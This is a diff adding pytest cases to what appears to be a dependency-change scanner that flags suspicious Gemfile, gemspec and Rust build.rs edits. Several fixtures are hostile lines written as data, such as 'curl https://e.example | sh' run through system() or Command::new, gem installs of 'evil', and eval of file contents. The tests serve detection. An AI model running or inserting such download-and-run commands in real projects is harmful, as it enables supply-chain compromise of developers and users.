@@ -610,6 +610,87 @@ def test_a_setting_of_conda_moves_the_index() -> None:
     assert ("PIP_INDEX_URL", "index-changed") in said("environment.yml", before, before + added)
 
 
+GEMFILE = "source 'https://r.example'\ngem 'a'\n"
+GEMSPEC = "Gem::Specification.new do |s|\n  s.name = 'x'\n  s.add_dependency 'a'\nend\n"
+
+
+@pytest.mark.parametrize(
+    ("path", "statement", "name", "rule"),
+    [
+        ("Gemfile", "`gem install evil`", "evil", "added"),
+        ("Gemfile", "%x(gem install evil)", "evil", "added"),
+        ("Gemfile", "system('curl https://e.example | sh')", "download and run", "dynamic"),
+        ("Gemfile", "ENV['BUNDLE_MIRROR__ALL'] = 'https://e.example'", "BUNDLE_MIRROR__ALL", "index-changed"),
+        ("Gemfile", "eval(File.read('evil'))", "code", "dynamic"),
+        ("Gemfile", "instance_eval File.read('evil')", "code", "dynamic"),
+        ("Gemfile", "load 'evil.rb'", "code", "dynamic"),
+        ("Gemfile", "send(:gem, 'evil')", "code", "dynamic"),
+        ("Gemfile", "require_relative 'evil'", "require_relative", "include-added"),
+        ("Gemfile", "gem'evil'", "evil", "added"),
+        ("x.gemspec", "  s.dependencies << Gem::Dependency.new('evil')", "code", "dynamic"),
+        ("x.gemspec", "  system 'curl https://e.example | sh'", "download and run", "dynamic"),
+    ],
+    ids=str,
+)  # fmt: skip
+def test_code_of_ruby(path: str, statement: str, name: str, rule: str) -> None:
+    before = GEMFILE if path == "Gemfile" else GEMSPEC
+    first, rest = before.split("\n", 1)
+    assert (name, rule) in said(path, before, f"{first}\n{statement}\n{rest}")
+
+
+def test_a_short_name_for_a_host_shows_where_it_leads() -> None:
+    sides = [
+        f'{GEMFILE}git_source(:x) {{ |r| "https://{host}/#{{r}}" }}\n'
+        for host in ("a.example", "evil.example")
+    ]
+    assert said("Gemfile", *sides) == {("git_source", "dynamic")}
+
+
+@pytest.mark.parametrize(
+    ("path", "statement"),
+    [
+        ("Gemfile", "ruby File.read('.ruby-version').strip"),
+        ("Gemfile", "ENV['X'] ||= '1'"),
+        ("x.gemspec", "  s.files = `git ls-files -z`.split('0')"),
+        ("x.gemspec", "  require_relative 'lib/x/version'"),
+    ],
+    ids=str,
+)
+def test_code_of_ruby_that_brings_nothing(path: str, statement: str) -> None:
+    before = GEMFILE if path == "Gemfile" else GEMSPEC
+    first, rest = before.split("\n", 1)
+    assert said(path, before, f"{first}\n{statement}\n{rest}") == set()
+
+
+BUILD = 'fn main() {\n    println!("x");\n}\n'
+
+
+@pytest.mark.parametrize(
+    ("statement", "name", "rule"),
+    [
+        ('Command::new("sh").arg("-c").arg("curl https://e.example | sh").status();', "download and run", "dynamic"),
+        ('Command::new("evil").status();', "runs evil", "install-script"),
+        ('reqwest::blocking::get("https://e.example");', "fetches", "install-script"),
+    ],
+    ids=str,
+)  # fmt: skip
+def test_what_the_build_script_of_a_crate_starts(statement: str, name: str, rule: str) -> None:
+    assert (name, rule) in said(
+        "x/build.rs", BUILD, BUILD.replace("println", f"{statement}\n    println")
+    )
+
+
+def test_a_build_script_of_a_crate_is_told_when_it_comes() -> None:
+    found = survey(change({}, {"build.rs": BUILD.encode()}), DependencySettings())
+    assert [signal.name for one in found for signal in one.signals] == ["install-script"]
+
+
+@pytest.mark.parametrize("path", ["build.rs", "src/build.rs"])
+def test_a_build_script_that_is_edited_or_a_module_of_that_name_brings_nothing(path: str) -> None:
+    assert said(path, BUILD, BUILD.replace("x", "cargo:rerun-if-changed=a")) == set()
+    assert path == "build.rs" or said(path, "", 'fn f() { Command::new("sh"); }\n') == set()
+
+
 COMPOSER = {
     "name": "o/a",
     "version": "1.0",
